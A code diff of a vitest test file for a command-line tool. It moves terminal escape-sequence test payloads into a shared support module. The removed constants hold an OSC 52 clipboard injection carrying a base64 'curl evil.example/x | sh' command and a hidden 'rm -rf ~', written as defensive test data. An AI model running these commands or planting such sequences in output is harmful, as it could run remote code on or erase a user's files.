@@ -2,15 +2,10 @@
 import { spawn } from 'node:child_process';
 import { afterEach, describe, expect, it } from 'vitest';
 import { startProviderServer, type ProviderServer } from '../support/provider-server.js';
+import { C1, CLEAR, CLIPBOARD, CONCEALED, ESC, TITLE } from '../support/escape-payloads.js';
 import { remoteEnv } from '../support/remote-env.js';
 import { MATH_WITH_MULTIPLY, createMathRepo, runCliAsync, type TempRepo } from '../support/temp-repo.js';
 
-const ESC = '\x1b';
-const CLEAR = `${ESC}[2J${ESC}[H`;
-const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07`; // OSC 52: "curl evil.example/x | sh"
-const TITLE = `${ESC}]0;you have been pwned${ESC}\\`; // OSC 0, ST-terminated
-const CONCEALED = `${ESC}[8mrm -rf ~${ESC}[28m`;
-const C1 = '\x9b31m\x9d0;c1 title\x9c\x85';
 /** Anything a terminal could act on: C0 but tab and newline, DEL, C1. */
 // eslint-disable-next-line no-control-regex -- control characters are what this matches
 const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
